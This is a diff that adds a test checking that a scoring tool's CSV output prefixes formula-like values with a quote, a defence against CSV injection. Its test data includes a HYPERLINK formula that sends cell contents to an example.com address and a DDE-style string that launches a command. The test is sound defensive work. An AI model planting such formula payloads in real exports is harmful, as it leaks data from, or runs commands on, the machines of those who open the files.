@@ -88,6 +88,34 @@ def test_csv_has_a_header_and_a_row_per_trace(kp: KpRunner) -> None:
     assert {"id", "score", "complexity", "novelty", "overrides"} <= set(rows[0])
 
 
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(
+    kp: KpRunner, tmp_path: Path
+) -> None:
+    """A domain starting ``=``, ``@``, ``+``, ``-`` is written ``'=...``: a spreadsheet shows it.
+
+    Before, ``=HYPERLINK(...)`` as a trace's domain was a live link once the table was opened
+    (OWASP CSV injection). Numbers, and a number written as text, are kept as they are.
+    """
+    domains = ['=HYPERLINK("http://example.com/?"&A1)', "@SUM(1+1)", "+cmd|' /C calc'!A0"]
+    domains += ["-2+3", "-0.5", "plain"]
+    path = tmp_path / "traces.jsonl"
+    traces = [trace_json(trace_id=f"kp:trace:{n}", domain=d) for n, d in enumerate(domains)]
+    path.write_text("".join(json.dumps(trace) + "\n" for trace in traces))
+    out = kp("score", str(path), "--no-embedder", "-f", "csv").out
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert [row["domain"] for row in rows] == [
+        '\'=HYPERLINK("http://example.com/?"&A1)',
+        "'@SUM(1+1)",
+        "'+cmd|' /C calc'!A0",
+        "'-2+3",
+        "-0.5",
+        "plain",
+    ]
+    assert all(float(row["score"]) >= 0 for row in rows)
+    listed = jsonl(kp("score", str(path), "--no-embedder", "-f", "jsonl").out)
+    assert [row["domain"] for row in listed] == domains  # the JSON forms keep values as they are
+
+
 def test_min_score_reports_which_traces_reach_it(kp: KpRunner) -> None:
     """--min-score sets the sharing threshold each row is judged against."""
     strict = jsonl(kp("score", TRACES, "--no-embedder", "-f", "jsonl", "--min-score", "0.99").out)
